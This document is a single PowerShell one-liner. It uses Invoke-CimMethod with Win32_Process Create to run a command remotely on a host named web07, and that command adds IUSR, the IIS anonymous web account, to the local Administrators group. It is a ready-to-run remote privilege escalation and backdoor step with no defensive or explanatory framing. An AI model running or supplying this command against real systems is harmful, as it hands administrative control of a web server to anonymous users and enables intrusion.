Invoke-CimMethod -ComputerName web07 -ClassName Win32_Process -MethodName Create -Arguments @{ CommandLine = 'net localgroup Administrators IUSR /add' }
